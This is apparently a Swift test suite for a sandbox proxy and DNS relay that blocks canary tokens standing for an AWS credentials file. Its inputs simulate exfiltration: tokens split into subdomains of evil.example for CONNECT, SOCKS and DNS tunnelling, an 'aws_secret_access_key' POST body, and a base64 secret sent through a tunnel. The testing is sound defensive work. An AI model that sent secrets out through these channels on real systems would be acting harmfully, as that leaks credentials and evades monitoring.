import Foundation
import Glibc
import XCTest
import WardenCore
@testable import WardenNet

/// The real proxy and DNS relay with a session's canary tokens: a token in a plain request line, a
/// header, a body, a CONNECT or SOCKS target, the bytes of a tunnel or a DNS name is an
/// `exfiltration` event naming the destination, and the connection is closed (the query refused)
/// before anything reaches the origin; a request without a token goes through.
final class CanaryProxyTests: XCTestCase {
    static let token = CanaryTokens.Token(value: "wwq7k2mzx4hd5nrt3p6ya2bcfe", standsFor: "/home/player/.aws/credentials")
    var value: String { Self.token.value }

    func proxy(_ origin: LoopbackOrigin, allow: [String] = ["127.0.0.1"]) throws -> LiveProxy {
        try LiveProxy(allow: allow, allowLocal: ["127.0.0.1:\(origin.port)"], canaries: CanaryTokens([Self.token]))
    }

    /// The one exfiltration event, checked for its fields.
    func exfiltration(_ proxy: LiveProxy, channel: String, destination: String, file: StaticString = #filePath, line: UInt = #line) {
        let e = proxy.events.waitFor(VisibilityEvent.exfiltration)
        XCTAssertEqual(e?["channel"]?.text, channel, "\(proxy.events.of(VisibilityEvent.exfiltration))", file: file, line: line)
        XCTAssertEqual(e?["destination"]?.text, destination, file: file, line: line)
        XCTAssertEqual(e?["stands_for"]?.text, Self.token.standsFor, file: file, line: line)
        XCTAssertEqual(e?["closed"], .bool(true), file: file, line: line)
        XCTAssertEqual(proxy.events.of(VisibilityEvent.exfiltration).count, 1, file: file, line: line)
    }

    /// Sends `bytes` on a new HTTP proxy connection: what came back before the proxy closed it.
    func send(_ proxy: LiveProxy, _ text: String) throws -> String {
        let c = try proxy.http()
        try c.send(Array(text.utf8))
        return String(decoding: c.readToEnd(), as: UTF8.self)
    }

    func testATokenInAPlainRequestLineClosesTheConnectionBeforeTheOrigin() throws {
        let origin = try LoopbackOrigin()
        let proxy = try proxy(origin)
        let answer = try send(proxy, "GET http://127.0.0.1:\(origin.port)/collect?k=\(value.uppercased()) HTTP/1.1\r\nHost: x\r\n\r\n")
        XCTAssertEqual(answer, "", "closed unanswered")
        exfiltration(proxy, channel: "http", destination: "127.0.0.1:\(origin.port)")
        XCTAssertEqual(origin.count, 0)
        XCTAssertTrue(proxy.events.of("proxy_allow").isEmpty, "refused before the policy is asked")
    }

    func testATokenInAHeaderClosesTheConnection() throws {
        let origin = try LoopbackOrigin()
        let proxy = try proxy(origin)
        let answer = try send(proxy, "GET http://127.0.0.1:\(origin.port)/ HTTP/1.1\r\nHost: x\r\nX-Session: \(value)\r\n\r\n")
        XCTAssertEqual(answer, "")
        exfiltration(proxy, channel: "http", destination: "127.0.0.1:\(origin.port)")
        XCTAssertEqual(origin.count, 0)
    }

    func testATokenInARequestBodyClosesTheConnectionAndTheBodyNeverArrives() throws {
        let origin = try LoopbackOrigin()
        let proxy = try proxy(origin)
        let body = String(repeating: "padding=1&", count: 500) + "aws_secret_access_key=\(value)"
        let answer = try send(proxy, "POST http://127.0.0.1:\(origin.port)/upload HTTP/1.1\r\nHost: x\r\nContent-Length: \(body.utf8.count)\r\n\r\n\(body)")
        XCTAssertFalse(answer.contains("200"), answer)
        exfiltration(proxy, channel: "http", destination: "127.0.0.1:\(origin.port)")
        XCTAssertFalse(origin.received.contains(value), origin.received)
    }

    func testATokenInAChunkedBodysTrailerClosesTheConnection() throws {
        let origin = try LoopbackOrigin()
        let proxy = try proxy(origin)
        let answer = try send(proxy, "POST http://127.0.0.1:\(origin.port)/upload HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
                                     + "5\r\nhello\r\n0\r\nX-Checksum: \(value)\r\n\r\n")
        XCTAssertFalse(answer.contains("200"), answer)
        exfiltration(proxy, channel: "http", destination: "127.0.0.1:\(origin.port)")
        XCTAssertFalse(origin.received.contains(value), origin.received)
    }

    func testATokenAsTheCONNECTTargetClosesTheConnection() throws {
        let origin = try LoopbackOrigin()
        let proxy = try proxy(origin, allow: ["*"])
        let answer = try send(proxy, "CONNECT \(value.prefix(13)).\(value.dropFirst(13)).evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n")
        XCTAssertEqual(answer, "")
        exfiltration(proxy, channel: "connect", destination: "\(value.prefix(13)).\(value.dropFirst(13)).evil.example:443")
    }

    func testATokenSentThroughACONNECTTunnelClosesIt() throws {
        let origin = try LoopbackOrigin()
        let proxy = try proxy(origin)
        let c = try proxy.http()
        try c.send(Array("CONNECT 127.0.0.1:\(origin.port) HTTP/1.1\r\nHost: x\r\n\r\n".utf8))
        let established = Self.head(c)
        XCTAssertTrue(established.hasPrefix("HTTP/1.1 200"), established)
        try c.send(Array("GET /?k=\(value) HTTP/1.1\r\nHost: x\r\n\r\n".utf8))
        XCTAssertTrue(c.closedByPeer(timeout: 20))
        exfiltration(proxy, channel: "plain", destination: "127.0.0.1:\(origin.port)")
        XCTAssertFalse(origin.received.contains(value), origin.received)
    }

    func testATokenAsTheSOCKSTargetOrInItsTunnelClosesTheConnection() throws {
        let origin = try LoopbackOrigin()
        let proxy = try proxy(origin, allow: ["*"])
        XCTAssertNil(try proxy.socksConnect(name: "\(value).evil.example", port: 80), "closed without a reply")
        exfiltration(proxy, channel: "socks", destination: "\(value).evil.example:80")

        let tunnel = try self.proxy(origin)
        let c = try tunnel.socks()
        try c.send([5, 1, 0])
        XCTAssertEqual(c.read(2), [5, 0])
        try c.send([5, 1, 0, 1, 127, 0, 0, 1, UInt8(origin.port >> 8), UInt8(origin.port & 0xff)])
        XCTAssertEqual(c.read(10).prefix(2), [5, 0])
        let secret = Data("aws_secret_access_key = \(value)\n".utf8).base64EncodedString()
        try c.send(Array("POST / HTTP/1.1\r\nHost: x\r\n\r\n\(secret)".utf8))
        XCTAssertTrue(c.closedByPeer(timeout: 20))
        exfiltration(tunnel, channel: "plain", destination: "127.0.0.1:\(origin.port)")
        XCTAssertFalse(origin.received.contains(secret), origin.received)
    }

    func testATokenAsADNSLabelIsRefusedOverUDPAndTCPAndAnOrdinaryNameIsNot() throws {
        let origin = try LoopbackOrigin()
        let proxy = try proxy(origin)
        let udp = try proxy.connect(NetworkPlan.Socket.dnsDatagram, type: SOCK_SEQPACKET)
        try udp.send(Self.query(id: 0x1234, "\(value).evil.example"))
        let answer = udp.read(512, timeout: 10)
        XCTAssertEqual(answer.prefix(2), [0x12, 0x34])
        XCTAssertEqual(answer.count > 3 ? answer[3] & 0x0f : 0xff, 5, "REFUSED: \(answer)")
        exfiltration(proxy, channel: "dns", destination: "\(value).evil.example")

        let tcp = try LiveProxy(allow: ["127.0.0.1"], canaries: CanaryTokens([Self.token]))
        let stream = try tcp.connect(NetworkPlan.Socket.dnsStream)
        let split = Self.query(id: 7, "\(value.prefix(20)).\(value.dropFirst(20)).evil.example")
        try stream.send([UInt8(split.count >> 8), UInt8(split.count & 0xff)] + split)
        let length = stream.read(2, timeout: 10)
        let framed = length.count == 2 ? stream.read(Int(length[0]) << 8 | Int(length[1]), timeout: 10) : []
        XCTAssertEqual(framed.count > 3 ? framed[3] & 0x0f : 0xff, 5, "REFUSED over TCP: \(framed)")
        exfiltration(tcp, channel: "dns", destination: "\(value.prefix(20)).\(value.dropFirst(20)).evil.example")

        let ordinary = try proxy.connect(NetworkPlan.Socket.dnsDatagram, type: SOCK_SEQPACKET)
        try ordinary.send(Self.query(id: 9, "www.example.com"))
        let nx = ordinary.read(512, timeout: 10)
        XCTAssertEqual(nx.count > 3 ? nx[3] & 0x0f : 0xff, 3, "NXDOMAIN from the policy, as without tokens: \(nx)")
        XCTAssertNotNil(proxy.events.waitFor("dns_query") { $0["name"]?.text == "www.example.com" })
        XCTAssertEqual(proxy.events.of(VisibilityEvent.exfiltration).count, 1)
    }

    func testRequestsWithoutATokenGoThrough() throws {
        let origin = try LoopbackOrigin()
        let proxy = try proxy(origin)
        let plain = try send(proxy, "POST http://127.0.0.1:\(origin.port)/upload?k=\(value.dropLast()) HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello")
        XCTAssertTrue(plain.hasPrefix("HTTP/1.1 200") && plain.hasSuffix("ok"), plain)
        let c = try proxy.http()
        try c.send(Array("CONNECT 127.0.0.1:\(origin.port) HTTP/1.1\r\nHost: x\r\n\r\n".utf8))
        XCTAssertTrue(Self.head(c).hasPrefix("HTTP/1.1 200"))
        try c.send(Array("GET /?k=\(value.dropFirst()) HTTP/1.1\r\nHost: x\r\n\r\n".utf8))
        let tunnelled = String(decoding: c.readToEnd(), as: UTF8.self)
        XCTAssertTrue(tunnelled.hasPrefix("HTTP/1.1 200") && tunnelled.hasSuffix("ok"), tunnelled)
        XCTAssertEqual(try proxy.socksConnect(name: "127.0.0.1", port: origin.port), 0)
        for _ in 0..<500 where origin.count < 3 { usleep(10_000) }
        XCTAssertEqual(origin.count, 3)
        XCTAssertTrue(proxy.events.of(VisibilityEvent.exfiltration).isEmpty, "\(proxy.events.of(VisibilityEvent.exfiltration))")
    }

    /// A response head, read up to its blank line.
    static func head(_ c: UnixClient) -> String {
        var out: [UInt8] = []
        while !out.suffix(4).elementsEqual(Array("\r\n\r\n".utf8)) {
            let b = c.read(1)
            if b.isEmpty { break }
            out += b
        }
        return String(decoding: out, as: UTF8.self)
    }

    /// A DNS query for an A record of `name` (recursion desired).
    static func query(id: UInt16, _ name: String) -> [UInt8] {
        var q: [UInt8] = [UInt8(id >> 8), UInt8(id & 0xff), 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]
        for label in name.split(separator: ".") { q.append(UInt8(label.utf8.count)); q += Array(label.utf8) }
        return q + [0, 0, 1, 0, 1]
    }
}
